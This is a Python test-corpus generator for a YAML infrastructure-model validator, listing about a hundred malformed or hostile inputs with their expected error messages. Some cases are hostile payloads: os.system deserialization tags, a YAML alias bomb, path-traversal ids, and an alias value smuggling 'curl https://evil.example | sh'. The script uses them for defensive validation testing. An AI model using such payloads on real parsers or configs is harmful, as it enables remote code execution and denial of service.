"""Writes the corpus of broken and hostile models (one folder per case) and expected.yaml.

Run: python tests/corpus/make_corpus.py
"""
import yaml, shutil
from pathlib import Path
OUT = Path(__file__).resolve().parent
BASE = """system: {name: Corpus}
environments:
  dev: {account: "111111111111", region: eu-west-1}
  prod: {account: "222222222222", region: eu-west-1, production: true}
actors:
  user: {kind: browser}
components:
  fn:
    type: lambda
    runtime: python3.12
    memory: 256
    timeout: 10
    log_group: fn-logs
  fn-logs:
    type: log-group
    retention_days: 30
  table:
    type: dynamodb-table
    partition_key: {name: pk}
  queue:
    type: sqs-queue
  api:
    type: api-gateway-rest
    stages:
      dev: {environment: dev}
    authorizers: [{name: iam, kind: iam}]
    routes:
      - {method: GET, path: /items, target: fn, authorizer: iam}
  repo:
    type: gitlab-repo
  runner:
    type: gitlab-runner
connections:
  - {from: user, to: api, protocol: HTTPS}
  - {from: fn, to: table, protocol: AWS SDK, permissions: ["dynamodb:GetItem"]}
flows:
  get:
    name: Get items
    steps:
      - {from: user, to: api, action: GET /items}
      - {from: api, to: fn, action: Invoke}
pipelines:
  deploy:
    name: Deploy
    trigger: push
    source: repo
    runs_on: runner
    stages:
      - name: Deploy
        environment: dev
        actions:
          - {name: Update, kind: deploy, uses: runner, target: fn}
"""
def line_of(text, needle):
    for i, l in enumerate(text.splitlines(), 1):
        if needle in l: return i
    raise ValueError(needle)

cases = {}
def case(name, files, file, line, text):
    cases[name] = (files, file, line, text)

def sub(old, new, count=1):
    assert old in BASE, old
    return BASE.replace(old, new, count)

def at(name, old, new, needle, text, file="model.yaml"):
    body = sub(old, new)
    case(name, {"model.yaml": body}, file, line_of(body, needle) if needle else 0, text)

# YAML level
at("syntax-unclosed-flow", "{name: pk}", "{name: pk", None, "YAML syntax error")
cases["syntax-unclosed-flow"] = (cases["syntax-unclosed-flow"][0], "model.yaml", 0, "YAML syntax error")
at("syntax-bad-indent", "    runtime: python3.12", "   runtime: python3.12", None, "YAML syntax error")
at("tab-indent", "    runtime: python3.12", "\truntime: python3.12", "\truntime", "tab")
case("invalid-utf8", {"model.yaml": BASE.replace("Corpus", "Corp\udcffus").encode("utf-8", "surrogateescape")}, "model.yaml", 1, "invalid UTF-8")
case("latin1-file", {"model.yaml": BASE.replace("Corpus", "Caf\udce9").encode("utf-8", "surrogateescape")}, "model.yaml", 1, "UTF-8")
case("empty-file", {"model.yaml": ""}, "model.yaml", 1, "empty")
case("comments-only", {"model.yaml": "# nothing here\n# at all\n"}, "model.yaml", 0, "")
case("root-list", {"model.yaml": "- system\n- components\n"}, "model.yaml", 1, "not a mapping")
case("root-scalar", {"model.yaml": "just some text\n"}, "model.yaml", 1, "not a mapping")
case("two-documents", {"model.yaml": BASE + "---\nflows: {}\n"}, "model.yaml", len(BASE.splitlines()) + 1, "more than one YAML document")
at("duplicate-top-key", "connections:\n", "flows: {}\nconnections:\n", None, "duplicate key 'flows'")
at("duplicate-nested-key", "    memory: 256\n", "    memory: 256\n    memory: 512\n", "memory: 512", "duplicate key 'memory'")
at("duplicate-component-id", "  queue:\n    type: sqs-queue\n", "  queue:\n    type: sqs-queue\n  queue:\n    type: sqs-queue\n", None, "duplicate key 'queue'")
at("python-object-tag", "system: {name: Corpus}", "system: !!python/object/apply:os.system ['touch /tmp/pwned']", "system:", "not allowed")
at("python-name-tag", "retention_days: 30", "retention_days: !!python/name:os.system", "retention_days", "not allowed")
at("binary-tag", "system: {name: Corpus}", "system: {name: !!binary aGVsbG8=}", "system:", "not allowed")
at("set-tag", "retention_days: 30", "retention_days: !!set {a, b}", "retention_days", "not allowed")
at("cloudformation-tag", "runtime: python3.12", "runtime: !Ref Runtime", "runtime:", "not allowed")
at("unknown-local-tag", "type: sqs-queue", "type: !queue sqs-queue", "!queue", "not allowed")
bomb = "".join(f"    d{i}: &a{i + 1} [{', '.join([f'*a{i}'] * 10)}]\n" for i in range(7))
at("alias-bomb", "  user: {kind: browser}\n", "  user:\n    kind: browser\n    x: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + bomb, None, "alias-expansion")
at("recursive-alias", "  user: {kind: browser}\n", "  user: &loop\n    kind: browser\n    self: *loop\n", None, "")
at("deep-nesting", "flows:\n", "deep: " + "[" * 300 + "]" * 300 + "\nflows:\n", None, "nesting")
at("merge-of-scalar", "    type: sqs-queue\n", "    type: sqs-queue\n    <<: 5\n", "<<: 5", "merges only mappings")
at("complex-key", "  queue:\n", "  ? [a, b]\n  : {type: sqs-queue}\n  queue:\n", "? [a, b]", "mapping key must be plain text")
# Sections and structure
at("unknown-section", "flows:\n", "flowz: {}\nflows:\n", "flowz", "did you mean 'flows'")
at("misspelt-section", "connections:\n", "conections: []\nconnections:\n", "conections", "did you mean 'connections'")
case("system-twice", {"model.yaml": BASE, "more.yaml": "system: {name: Again}\n"}, "more.yaml", 1, "defined twice")
at("no-system", "system: {name: Corpus}\n", "", None, "no 'system' section")
at("system-not-mapping", "system: {name: Corpus}", "system: Corpus", "system:", "expected a mapping")
at("system-without-name", "system: {name: Corpus}", "system: {description: x}", "system:", "missing required key 'name'")
at("environments-as-list", "environments:\n", "environments: [dev, prod]\nunused:\n", None, "must be a mapping")
at("account-letters", '"111111111111"', '"11111111111a"', "11111111111a", "expected form")
at("account-unquoted", '"111111111111"', "111111111111", "111111111111", "quote it")
at("bad-region", "region: eu-west-1}\n  prod", "region: Europe}\n  prod", "Europe", "expected form")
at("environment-id-upper", "  prod: {", "  Prod: {", "Prod:", "lower-case")
at("id-path-traversal", "  queue:\n", "  ../../etc/passwd:\n    type: sqs-queue\n  queue:\n", "passwd", "lower-case")
at("id-absolute-path", "  queue:\n", "  /etc/passwd:\n    type: sqs-queue\n  queue:\n", "/etc/passwd", "lower-case")
at("id-nul-byte", "  queue:\n", '  "fn\\0x":\n    type: sqs-queue\n  queue:\n', "fn\\0x", "U+0000")
at("id-too-long", "  queue:\n", "  " + "q" * 80 + ":\n    type: sqs-queue\n  queue:\n", "qqqq", "max 63")
at("id-with-space", "  queue:\n", "  my queue:\n    type: sqs-queue\n  queue:\n", "my queue", "lower-case")
at("id-as-number", "  queue:\n", "  4.2:\n    type: sqs-queue\n  queue:\n", "4.2:", "not allowed")
at("component-without-type", "    type: sqs-queue\n", "    fifo: true\n", None, "missing required key 'type'")
at("unknown-type", "type: sqs-queue", "type: kafka-topic", "kafka-topic", "not a known component type")
at("misspelt-type", "type: sqs-queue", "type: sqs-queu", "sqs-queu", "did you mean 'sqs-queue'")
at("component-is-text", "  queue:\n    type: sqs-queue\n", "  queue: an sqs queue\n", "an sqs queue", "expected a mapping")
at("misspelt-key", "    memory: 256", "    memroy: 256", "memroy", "did you mean 'memory'")
at("unknown-key", "    memory: 256", "    colour: blue", "colour", "unknown key 'colour'")
at("text-for-integer", "    memory: 256", "    memory: lots", "memory", "whole number")
at("boolean-for-integer", "    memory: 256", "    memory: true", "memory", "whole number")
at("float-for-integer", "    memory: 256", "    memory: 256.5", "memory", "whole number")
at("list-for-text", "runtime: python3.12", "runtime: [python3.12]", "runtime", "not allowed here")
at("lambda-memory-64", "    memory: 256", "    memory: 64", "memory", "from 128 to 10240")
at("lambda-memory-huge", "    memory: 256", "    memory: 20000", "memory", "from 128 to 10240")
at("lambda-timeout-901", "    timeout: 10", "    timeout: 901", "timeout", "from 1 to 900")
at("lambda-timeout-0", "    timeout: 10", "    timeout: 0", "timeout", "from 1 to 900")
at("negative-concurrency", "    timeout: 10\n", "    timeout: 10\n    reserved_concurrency: -5\n", "reserved_concurrency", "out of range")
at("runtime-unknown", "runtime: python3.12", "runtime: python2.7", "runtime", "not allowed here")
at("enum-wrong-case", "    stages:", "    endpoint_type: regional\n    stages:", "regional", "did you mean 'REGIONAL'")
at("retention-not-allowed", "retention_days: 30", "retention_days: 42", "retention_days", "one of 1, 3, 5")
at("mfa-off-unquoted-still-text", "  queue:\n", "  pool:\n    type: cognito-user-pool\n    mfa: off\n    clients: [{name: web}]\n  queue:\n", "mfa: off", "did you mean 'OFF'")
at("token-validity-too-short", "  queue:\n", "  pool:\n    type: cognito-user-pool\n    clients: [{name: web, id_token_validity: 2}]\n  queue:\n", "id_token_validity", "from 5 to 1440")
at("dangling-connection", 'to: table, protocol', 'to: tabel, protocol', "tabel", "did you mean 'table'")
at("dangling-flow-step", "to: fn, action: Invoke", "to: fnn, action: Invoke", "fnn", "did you mean 'fn'")
at("dangling-pipeline-source", "    source: repo", "    source: rpo", "source: rpo", "did you mean 'repo'")
at("reference-wrong-type", "    log_group: fn-logs", "    log_group: table", "log_group", "expected the id of log-group")
at("self-reference-dlq", "    type: sqs-queue\n", "    type: sqs-queue\n    dead_letter: queue\n", "dead_letter", "refers to itself")
at("self-connection", '{from: user, to: api, protocol: HTTPS}', '{from: fn, to: fn, protocol: HTTPS}', "from: fn, to: fn", "connected to itself")
at("override-unknown-environment", "    log_group: fn-logs\n", "    log_group: fn-logs\n    overrides: {qa: {memory: 512}}\n", "overrides", "not a defined environment")
at("override-unknown-key", "    log_group: fn-logs\n", "    log_group: fn-logs\n    overrides: {prod: {memroy: 512}}\n", "overrides", "did you mean 'memory'")
at("override-out-of-range", "    log_group: fn-logs\n", "    log_group: fn-logs\n    overrides: {prod: {timeout: 1000}}\n", "overrides", "from 1 to 900")
case("duplicate-id-across-files", {"model.yaml": BASE, "extra.yaml": "components:\n  fn:\n    type: sqs-queue\n"}, "extra.yaml", 2, "duplicate id 'fn'")
at("actor-and-component", "  user: {kind: browser}", "  user: {kind: browser}\n  fn: {kind: developer}", "fn: {kind", "both an actor and a component")
at("undefined-authorizer", "authorizer: iam}", "authorizer: cognito}", "authorizer: cognito", "no authorizer named 'cognito'")
at("public-without-reason", "authorizer: iam}", "public: true}", "public: true", "public_reason")
at("cognito-authorizer-without-pool", "[{name: iam, kind: iam}]", "[{name: iam, kind: cognito}]", "kind: cognito", "needs 'user_pool'")
at("connection-without-protocol", "{from: user, to: api, protocol: HTTPS}", "{from: user, to: api}", "from: user, to: api", "missing required key 'protocol'")
at("flow-without-steps", "pipelines:\n", "  other:\n    name: Other\npipelines:\n", "  other:", "missing required key 'steps'")
at("stage-without-actions", "      - name: Deploy\n", "      - name: Build\n      - name: Deploy\n", "name: Build", "missing required key 'actions'")
at("unknown-actor-kind", "{kind: browser}", "{kind: robot}", "kind: robot", "not a known actor kind")
at("failure-status-999", "action: Invoke}", "action: Invoke, failures: [{when: x, response: y, status: 999}]}", "status: 999", "from 100 to 599")
at("route-path-without-slash", "path: /items", "path: items", "path: items", "expected form")
at("bad-permission", '"dynamodb:GetItem"', '"dynamodb GetItem"', "dynamodb GetItem", "expected form")
at("stage-unknown-environment", "dev: {environment: dev}", "dev: {environment: stagin}", "stagin", "not a defined environment")
at("unknown-layer", "    type: sqs-queue\n", "    type: sqs-queue\n    layer: backend\n", "layer: backend", "not a known layer")
at("control-character", "system: {name: Corpus}", 'system: {name: "Cor\\x07pus"}', "system:", "control character")
at("escaped-nul-in-text", "system: {name: Corpus}", 'system: {name: Corpus, description: "a\\0b"}', "system:", "U+0000")
at("noncharacter-in-text", "system: {name: Corpus}", 'system: {name: "Corpus\\uFFFF"}', "system:", "U+FFFF")
at("overrides-empty", "    log_group: fn-logs\n", "    log_group: fn-logs\n    overrides:\n", "overrides:", "expected a mapping")
at("tagged-key", "    type: sqs-queue\n", "    type: sqs-queue\n    !!python/object:os.system fifo: true\n", "fifo: true", "not allowed")
at("lambda-alias-shell", "    timeout: 10\n", '    timeout: 10\n    alias: "live; curl https://evil.example | sh"\n', "alias:", "not in the expected form")
at("cloudformation-dynamic-reference", "{from: api, to: fn, action: Invoke}", '{from: api, to: fn, action: "Invoke with {{resolve:secretsmanager:prod-db:SecretString:password}}"}', "resolve:secretsmanager", "CloudFormation dynamic reference")
at("long-text-value", "system: {name: Corpus}", "system: {name: Corpus, description: '" + "x" * 70000 + "'}", "system:", "characters")

for old in OUT.iterdir():
    if old.is_dir() and old.name != "__pycache__":
        shutil.rmtree(old)
expected = {}
for name, (files, file, line, text) in sorted(cases.items()):
    folder = OUT / name
    folder.mkdir()
    for fname, body in files.items():
        (folder / fname).write_bytes(body if isinstance(body, bytes) else body.encode())
    expected[name] = {"file": file, "line": line, "says": text}
(OUT / "expected.yaml").write_text("# Each folder under tests/corpus is a broken or hostile model; this is the error it must give.\n"
    "# file and line: where the error points (line 0: any line); says: text in the message or its fix.\n"
    + yaml.safe_dump(expected, sort_keys=True, width=200))
print(len(cases))
